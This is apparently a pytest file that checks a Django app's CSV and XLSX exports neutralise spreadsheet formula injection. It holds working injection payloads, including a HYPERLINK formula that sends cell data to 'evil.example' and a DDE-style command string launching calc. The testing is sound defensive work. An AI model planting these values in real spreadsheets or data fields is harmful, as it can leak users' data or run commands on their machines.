"""Every export neutralises cells a spreadsheet would run as formulas (OWASP CSV injection).

The data holds a live `=HYPERLINK(...)` (and `+`, `-`, `@`, tab starts) in every free-text field
that an export carries; each export URL is fetched as CSV and XLSX and no cell may start a
formula. A second test walks the URL resolver so that a new export cannot be left out.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from typing import Any

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

from jaga.core.tabular import FORMULA_STARTS, iter_rows, neutralise, write_csv, write_xlsx

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
OTHERS = ["+62 812 CMD", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "\t=1+1"]


def _cells(response: Any) -> list[tuple[str, Any]]:
    """(data type, value) of every cell of a CSV or XLSX answer."""
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if body[:2] == b"PK":
        book = load_workbook(io.BytesIO(body))  # not read-only: formulas stay formulas
        return [(c.data_type, c.value) for sheet in book for row in sheet.iter_rows() for c in row]
    reader = csv.reader(io.StringIO(body.decode("utf-8-sig")))
    return [("s", value) for row in reader for value in row]


def assert_inert(response: Any, *, holds_payload: bool = True) -> None:
    assert response.status_code == 200, response.content[:300]
    cells = _cells(response)
    assert cells, "empty export"
    formulas = [v for t, v in cells if t == "f"]
    assert not formulas, formulas
    live = [v for _t, v in cells if isinstance(v, str) and v.startswith(FORMULA_STARTS)]
    assert not live, live
    if holds_payload:
        assert "'" + PAYLOAD in [v for _t, v in cells], "the payload did not reach the export"


@pytest.fixture
def poisoned(satbinmas, alice, village_a) -> None:  # type: ignore[no-untyped-def]
    """A payload in every text field the exports carry, in 35.03.11.1002."""
    from jaga.fieldwork.services import record_visit
    from jaga.incidents.models import Category
    from jaga.incidents.services import record_incident
    from jaga.partners.models import Membership, Organisation, Person
    from jaga.programs import services as programs

    record_incident(
        category=Category.objects.get(code="knalpot_brong"),
        village=village_a,
        occurred_at=datetime.datetime(2024, 3, 5, 21, tzinfo=datetime.UTC),
        source="desk",
        source_ref=PAYLOAD[:40],
        description=PAYLOAD,
    )
    record_visit(
        actor=alice,
        village=village_a,
        visited_on=datetime.date(2024, 3, 5),
        household_head=PAYLOAD,
        topic="social",
        address=OTHERS[0],
        concerns=PAYLOAD,
        hopes=OTHERS[1],
    )
    person = Person.objects.create(
        full_name=PAYLOAD, village=village_a, occupation=OTHERS[2], phone=OTHERS[0]
    )
    org = Organisation.objects.create(
        kind="fkpm", name=PAYLOAD, local_name=OTHERS[3], territory=village_a
    )
    Membership.objects.create(
        person=person, organisation=org, role="=1+2+cmd", started_on=datetime.date(2024, 1, 1)
    )
    programme = programs.create_programme(actor=satbinmas, code="FKPM", name="Forum")
    programs.record_activity(
        actor=satbinmas,
        programme=programme,
        kind="meeting",
        title=PAYLOAD,
        starts_at=datetime.datetime(2024, 3, 5, 9, tzinfo=datetime.UTC),
        village=village_a,
        place=OTHERS[1],
        outcome=PAYLOAD,
    )


# route name -> (URLs to fetch, whether the payload must appear)
EXPORTS: dict[str, tuple[list[str], bool]] = {
    "incidents:export": (["/kejadian/ekspor.csv", "/kejadian/ekspor.xlsx"], True),
    "fieldwork:visits_export": (
        ["/lapangan/kunjungan/ekspor.csv", "/lapangan/kunjungan/ekspor.xlsx"],
        True,
    ),
    "partners:export": (
        [
            f"/mitra/ekspor/{kind}/?format={fmt}"
            for kind in ("people", "organisations", "memberships")
            for fmt in ("csv", "xlsx")
        ],
        True,
    ),
    "programs:activities_transfer": (
        [
            "/program/kegiatan/impor-ekspor/?format=csv",
            "/program/kegiatan/impor-ekspor/?format=xlsx",
        ],
        True,
    ),
    "api:export_people": (
        ["/api/v1/partners/people/export?format=csv", "/api/v1/partners/people/export?format=xlsx"],
        True,
    ),
    "api:export_organisations": (
        [
            "/api/v1/partners/organisations/export?format=csv",
            "/api/v1/partners/organisations/export?format=xlsx",
        ],
        True,
    ),
    "api:export_memberships": (
        [
            "/api/v1/partners/memberships/export?format=csv",
            "/api/v1/partners/memberships/export?format=xlsx",
        ],
        True,
    ),
    "api:export_activities": (
        [
            "/api/v1/programmes/activities/export?format=csv",
            "/api/v1/programmes/activities/export?format=xlsx",
        ],
        True,
    ),
    # Headers only, and public figures: no free text of anyone, but the same writer.
    "surveys:import_template": (
        ["/survei/impor/contoh-trust.xlsx", "/survei/impor/contoh-ikm.xlsx"],
        False,
    ),
    "portal:csv": (["/publik/35.03/data.csv"], False),
    # The forms typed in from paper: answers are numbers and codes.
    "surveys:export": (["/survei/impor/ekspor-trust/", "/survei/impor/ekspor-ikm/"], False),
    # An activity's invitations ({activity}: the poisoned activity's id).
    "programs:invitations_transfer": (
        [
            "/program/kegiatan/{activity}/undangan/impor-ekspor/?format=csv",
            "/program/kegiatan/{activity}/undangan/impor-ekspor/?format=xlsx",
        ],
        False,
    ),
}
# Pages whose path looks like an export but only link to the ones above.
NOT_EXPORTS = {"partners:transfer"}
LOOKS_LIKE_EXPORT = re.compile(r"ekspor|export|\.csv|\.xlsx|contoh", re.IGNORECASE)


def _routes(resolver: URLResolver, prefix: str = "", namespace: str = "") -> list[tuple[str, str]]:
    found: list[tuple[str, str]] = []
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            space = (
                f"{namespace}:{entry.namespace}"
                if namespace and entry.namespace
                else (entry.namespace or namespace)
            )
            found += _routes(entry, prefix + str(entry.pattern), space)
        elif isinstance(entry, URLPattern) and entry.name:
            found.append((prefix + str(entry.pattern), f"{namespace}:{entry.name}".lstrip(":")))
    return found


def test_every_export_route_is_checked() -> None:
    exports = {
        name
        for path, name in _routes(get_resolver())
        if LOOKS_LIKE_EXPORT.search(path) and not path.startswith("admin/")
    }
    assert exports - NOT_EXPORTS == set(EXPORTS), "an export is missing from EXPORTS"


@pytest.mark.parametrize("route", sorted(EXPORTS))
def test_every_export_neutralises_formulas(route: str, poisoned: None, satbinmas_client) -> None:  # type: ignore[no-untyped-def]
    from jaga.programs.models import Activity

    urls, holds_payload = EXPORTS[route]
    activity = Activity.objects.filter(title=PAYLOAD).values_list("pk", flat=True).first()
    for url in urls:
        assert_inert(
            satbinmas_client.get(url.format(activity=activity)), holds_payload=holds_payload
        )


def test_numbers_stay_numbers_and_text_stays_text() -> None:
    book = load_workbook(
        io.BytesIO(
            write_xlsx(["a", "b", "c", "d"], [[-2.5, 7, "-7", "#N/A"], [PAYLOAD, None, 0, ""]])
        )
    )
    rows = [[(c.data_type, c.value) for c in row] for row in book.active.iter_rows(min_row=2)]
    assert rows[0] == [("n", -2.5), ("n", 7), ("s", "'-7"), ("s", "#N/A")]
    assert rows[1][0] == ("s", "'" + PAYLOAD) and rows[1][2] == ("n", 0)
    text = write_csv(["x"], [[-3], ["=1+1"], ["a=b"], ["\r=1"]])
    assert list(csv.reader(io.StringIO(text))) == [["x"], ["-3"], ["'=1+1"], ["a=b"], ["'\r=1"]]
    assert neutralise(12) == 12 and neutralise(None) is None


def test_an_export_read_back_gives_the_original_text() -> None:
    for writer, name in ((write_csv, "x.csv"), (write_xlsx, "x.xlsx")):
        data = writer(["text"], [[PAYLOAD], [OTHERS[2]], ["'plain quote"]])
        raw = data.encode() if isinstance(data, str) else data
        rows = [row["text"] for _line, row in iter_rows(io.BytesIO(raw), ["text"], name=name)]
        assert rows == [PAYLOAD, OTHERS[2], "'plain quote"]
